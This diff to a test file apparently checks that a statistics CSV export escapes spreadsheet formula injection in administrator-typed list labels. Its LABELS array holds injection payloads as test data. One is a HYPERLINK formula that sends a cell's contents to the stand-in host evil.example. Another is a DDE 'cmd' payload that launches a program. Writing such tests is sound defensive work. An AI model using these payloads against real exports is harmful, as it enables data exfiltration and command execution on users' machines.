@@ -9,7 +9,7 @@ import { addStaff, signInStaff } from '../helpers/staff.js';
 // leading ' in the statistics export. List labels are typed by
 // administrators, so a label is the way in.
 
-const LABELS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\tTabbed', '\rReturned'];
+const LABELS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\tTabbed', '\rReturned'];
 let t: TestApp;
 let csv: string;
 let json: { tables: { id: string; rows: { label: string }[] }[] };
